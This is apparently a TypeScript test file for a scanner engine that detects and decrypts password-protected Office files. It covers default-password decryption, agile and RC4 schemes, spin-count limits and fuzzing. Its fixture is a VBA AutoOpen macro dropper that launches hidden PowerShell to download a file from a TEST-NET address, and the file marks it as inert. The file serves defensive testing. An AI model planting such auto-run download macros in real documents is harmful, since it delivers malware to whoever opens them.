import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { buildDocm } from '../../formats/ooxml/index.js';
import { buildVbaProjectBin, vbaModuleSource } from '../../formats/ovba/index.js';
import { makeContext } from '../../../test/support/engine-context.js';
import {
  buildEncryptedPptShell,
  buildEncryptedXls,
  encryptAgile,
  encryptStandard,
} from '../../../test/builders/offcrypto.js';
import { offcryptoEngine } from './index.js';

// Inert: TEST-NET address, the command is text that is never run.
const DROPPER = [
  'Sub AutoOpen()',
  '    Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")',
  '    w.Create "powershell -nop -w hidden -c iwr http://192.0.2.10/a.bin", Null, Null, pid',
  'End Sub',
].join('\n');

const docm = buildDocm({
  vbaProjectBin: buildVbaProjectBin({
    modules: [{ name: 'NewMacros', code: vbaModuleSource('NewMacros', DROPPER) }],
  }),
});

const analyze = async (bytes: Uint8Array) => offcryptoEngine.analyze(makeContext(bytes));

describe('offcrypto engine', () => {
  test('standard encryption with VelvetSweatshop decrypts to the same package', async () => {
    const out = await analyze(encryptStandard(docm));
    assert.deepEqual(
      out.findings?.map((f) => f.id),
      ['offcrypto.default-password'],
    );
    assert.deepEqual(out.children?.[0]?.bytes, docm);
    assert.equal(out.findings?.[0]?.evidence[0]?.text, 'standard AES-128/SHA1');
  });

  test('another password → offcrypto.encrypted with the scheme, no child', async () => {
    const out = await analyze(encryptAgile(docm, { password: 'Invoice2024', spinCount: 1000 }));
    assert.deepEqual(
      out.findings?.map((f) => f.id),
      ['offcrypto.encrypted'],
    );
    assert.match(
      out.findings?.[0]?.evidence[0]?.text ?? '',
      /agile AES-256\/SHA512, spinCount 1000/,
    );
    assert.equal(out.children, undefined);
  });

  test('a spin count above the cap → scan.limit-exceeded and offcrypto.encrypted, never a crash', async () => {
    const bytes = encryptAgile(docm, {
      spinCount: 1,
      mutateXml: (x) => x.replace('spinCount="1"', 'spinCount="9000000"'),
    });
    const out = await analyze(bytes);
    assert.deepEqual(
      out.findings?.map((f) => f.id),
      ['scan.limit-exceeded', 'offcrypto.encrypted'],
    );
    assert.match(out.findings?.[0]?.evidence[0]?.text ?? '', /E_LIMIT_SPIN_COUNT/);
  });

  test('an RC4 CryptoAPI .xls → child decrypted.xls, a compound file', async () => {
    const out = await analyze(buildEncryptedXls('http://198.51.100.7/inert').bytes);
    assert.deepEqual(
      out.findings?.map((f) => f.id),
      ['offcrypto.default-password'],
    );
    assert.equal(out.children?.[0]?.name, 'decrypted.xls');
    assert.equal(out.children?.[0]?.typeHint, 'ole');
  });

  test('an encrypted .ppt is reported, not decrypted', async () => {
    const out = await analyze(buildEncryptedPptShell());
    assert.deepEqual(
      out.findings?.map((f) => f.id),
      ['offcrypto.encrypted'],
    );
    assert.match(out.findings?.[0]?.evidence[0]?.text ?? '', /PowerPoint/);
  });

  test('fuzz: 200 mutated encrypted files → findings, never an exception', async () => {
    const seeds = [
      encryptAgile(docm, { spinCount: 3 }),
      buildEncryptedXls('inert').bytes,
      buildEncryptedPptShell(),
    ];
    for (let i = 0; i < 200; i++) {
      const bytes = seeds[i % seeds.length]!.slice();
      for (let k = 1; k <= 3; k++) {
        const at = 512 + ((i * 7919 + k * 104_729) % (bytes.length - 512));
        bytes[at] = (i * 31 + k * 17) & 0xff;
      }
      const out = await analyze(bytes);
      assert.ok(Array.isArray(out.findings ?? []));
    }
  });

  test('a plain compound file gives nothing', async () => {
    assert.deepEqual(await analyze(buildVbaProjectBin({ modules: [] })), {});
  });
});
